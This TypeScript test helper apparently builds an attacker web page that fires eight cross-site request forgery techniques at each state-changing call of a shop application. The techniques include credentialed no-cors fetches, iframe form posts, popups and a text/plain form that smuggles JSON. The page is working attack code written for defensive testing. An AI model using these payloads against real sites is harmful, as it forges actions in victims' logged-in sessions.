/** A state-changing call as a page of another site would make it. */
export interface CrossSiteTarget {
  url: string;
  method: string;
  /** The call as the fields of a form. */
  fields: Record<string, string>;
  /** The call as JSON. */
  json: string;
}

/** In how many ways each call is attacked. */
export const ATTACKS = 8;

/**
 * A page that makes every call of a list in each way in which a page can make a browser send something elsewhere:
 * `attackAll(targets)`. A GET needs other ways than the rest. It resolves when the shop has answered, or when the browser has
 * refused to send.
 */
export const ATTACKERS_PAGE = String.raw`<!doctype html><title>Free graphics cards</title><body><script>
const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
const answered = (element) =>
  new Promise((resolve) => {
    element.onload = element.onerror = resolve;
  });
const load = (tag, properties) => answered(add(tag, properties));
const send = (url, options) => fetch(url, { credentials: 'include', ...options }).catch(() => undefined);
const pause = () => new Promise((resolve) => setTimeout(resolve, 5));

/** Done as soon as the frame shows what is no longer this page's own. */
async function left(frame) {
  while (frame.contentDocument !== null) await pause();
  frame.remove();
}

/** A form that a frame of its own sends. */
async function submit({ url, fields }, method, enctype) {
  const frame = add('iframe', {});
  const form = frame.contentDocument.createElement('form');
  Object.assign(form, { action: url, method, enctype });
  for (const [field, value] of Object.entries(fields)) {
    form.append(Object.assign(frame.contentDocument.createElement('input'), { name: field, value }));
  }
  frame.contentDocument.body.append(form);
  form.submit();
  await left(frame);
}

/** A whole window at the address, with the cookie: done as soon as the window is no longer this page's own. */
async function visit(url) {
  const popup = window.open(url);
  const isEmpty = () => {
    try {
      return !popup.closed && popup.location.href === 'about:blank';
    } catch {
      return false;
    }
  };
  while (isEmpty()) await pause();
  popup.close();
}

function toFormData(fields) {
  const form = new FormData();
  for (const [field, value] of Object.entries(fields)) form.append(field, value);
  form.append('file', new Blob(['x']), 'x.png');
  return form;
}

/** Ends as JSON does: the sign that a form puts between name and value lies in a text of its own. */
const smuggled = (json) => ({ [json.slice(0, -1) + ',"padding":"']: '"}' });

const READING = [
  ({ url }) => visit(url),
  ({ url }) => load('img', { src: url }),
  ({ url }) => load('script', { src: url }),
  ({ url }) => left(add('iframe', { src: url })),
  ({ url }) => load('link', { rel: 'stylesheet', href: url }),
  ({ url }) => answered(new EventSource(url, { withCredentials: true })),
  ({ url }) => send(url, { mode: 'no-cors' }),
  (target) => submit(target, 'GET', 'application/x-www-form-urlencoded'),
];

const WRITING = [
  ({ url, method, fields }) => visit(url + '?' + new URLSearchParams({ ...fields, _method: method })),
  (target) => submit(target, 'POST', 'application/x-www-form-urlencoded'),
  (target) => submit(target, 'POST', 'multipart/form-data'),
  ({ url, json }) => submit({ url, fields: smuggled(json) }, 'POST', 'text/plain'),
  ({ url, fields }) => send(url, { method: 'POST', mode: 'no-cors', body: toFormData(fields) }),
  ({ url, json }) => send(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: json }),
  ({ url, method, json }) => send(url, { method, body: json, headers: { 'Content-Type': 'application/json' } }),
  ({ url, method, fields }) =>
    send(url, { method, body: toFormData(fields), headers: { 'Apollo-Require-Preflight': 'true' } }),
];

async function attackAll(targets) {
  const waiting = targets
    .flatMap((target) => (target.method === 'GET' ? READING : WRITING).map((attack) => () => attack(target)))
    .values();
  const work = async () => {
    for (const attack of waiting) await attack();
  };
  await Promise.all([work(), work(), work(), work()]);
}
</script>`;
